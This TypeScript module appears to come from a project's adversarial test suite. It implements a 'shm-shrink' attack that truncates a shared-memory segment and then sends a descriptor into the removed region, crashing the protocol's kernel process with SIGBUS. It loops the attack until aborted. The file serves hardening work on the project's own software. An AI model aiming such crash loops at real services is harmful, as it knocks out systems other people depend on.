import { truncateSync } from "node:fs";
import { crc32 } from "node:zlib";
import {
  encodeCanonical,
  encodeMessage,
  FrameFlag,
  generateIdentity,
  HEADER_SIZE,
  type Message,
  MessageType,
  SHM_CONTROL_BYTES,
  shmSegmentName,
  writeHeader,
} from "@kpip/protocol";
import { loadShmNative } from "../../src/transport/shm-native.js";
import { type Attack, RawConn, sleep } from "./attack.js";

/** A frame whose body is in the peer's segment: the descriptor goes on the socket. */
function descriptor(type: number, desc: Record<string, unknown>): Buffer {
  const body = encodeCanonical(desc as never);
  const f = Buffer.alloc(HEADER_SIZE + body.length);
  writeHeader(f, 0, { type, flags: FrameFlag.SHM, stream: 0, length: body.length });
  f.set(body, HEADER_SIZE);
  return f;
}

/**
 * Finding 1: offer shm in HELLO (no registered persona needed), send one body through the
 * session's segment, shrink the segment, send a second descriptor into the cut-off part.
 * A kernel that checks against the size it mapped first reads past the file: SIGBUS.
 */
export const shmShrink: Attack = {
  name: "shm-shrink",
  finding: 1,
  summary: "shrink a shared-memory segment under the kernel before attestation",
  async run(ctx) {
    const native = loadShmNative().native;
    if (!native) return { note: "shared memory unavailable here: not run", ok: true };
    let rounds = 0;
    while (!ctx.signal.aborted) {
      const c = await RawConn.connect(ctx.socket);
      const id = generateIdentity("nobody");
      c.sendMessage({
        type: "HELLO",
        body: { versions: [1], persona: "nobody", publicKey: id.publicKey, instance: Buffer.alloc(16, 9), features: ["shm"] },
      });
      let name = "";
      try {
        const ch = await c.next("CHALLENGE");
        name = shmSegmentName(ch.body.kernel, ch.body.session, "p");
        const seg = native.create(name, SHM_CONTROL_BYTES + 2 * 1024 * 1024);
        if (!seg) throw new Error("segment exists");
        const err: Message = { type: "ERROR", body: { class: "PROTOCOL", code: "X", message: "hi", fatal: false } };
        const body = encodeMessage(err).subarray(HEADER_SIZE);
        seg.write(body, SHM_CONTROL_BYTES);
        c.send(descriptor(MessageType.ERROR, { seg: name, off: SHM_CONTROL_BYTES, len: body.length, seq: 1, crc: crc32(body) }));
        await sleep(50);
        truncateSync(`/dev/shm${name}`, SHM_CONTROL_BYTES);
        const off = SHM_CONTROL_BYTES + 1024 * 1024;
        c.send(descriptor(MessageType.ERROR, { seg: name, off, len: 64, seq: 2, crc: 0 }));
        await sleep(50);
        rounds++;
      } catch {
        // refused or closed: try again
      } finally {
        c.close();
        if (name) native.destroy(name);
      }
      await sleep(100, ctx.signal);
    }
    return { note: `${rounds} shrunk segments sent`, ok: true };
  },
};
